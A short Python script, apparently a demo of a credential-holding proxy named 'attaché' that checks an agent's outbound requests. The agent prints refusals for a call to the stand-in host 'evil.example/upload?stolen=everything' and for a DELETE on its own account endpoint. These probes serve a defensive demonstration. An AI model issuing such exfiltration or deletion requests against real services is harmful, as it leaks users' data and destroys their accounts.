"""An agent as it could be any: it knows nothing of attaché, and holds no key."""

import json
import os
import urllib.error
import urllib.request


def call(method: str, url: str) -> None:
    print(f"agent: {method} {url}")
    try:
        with urllib.request.urlopen(urllib.request.Request(url, method=method), timeout=10) as answer:
            print(f"  {answer.status} {answer.read().decode()}")
    except urllib.error.HTTPError as refusal:
        why = json.loads(refusal.read())
        print(f"  {refusal.code} {why['reason']}: {why['message']}; {why['hint']}")
    except urllib.error.URLError as refusal:
        # A refused tunnel; its body says why, but urllib keeps it to itself.
        print(f"  {refusal.reason}")


print(f"agent: DEMO_API_KEY in my environment: {'DEMO_API_KEY' in os.environ}")
call("GET", "https://api.example.com/v1/me")
call("GET", "https://evil.example/upload?stolen=everything")
call("DELETE", "https://api.example.com/v1/me")
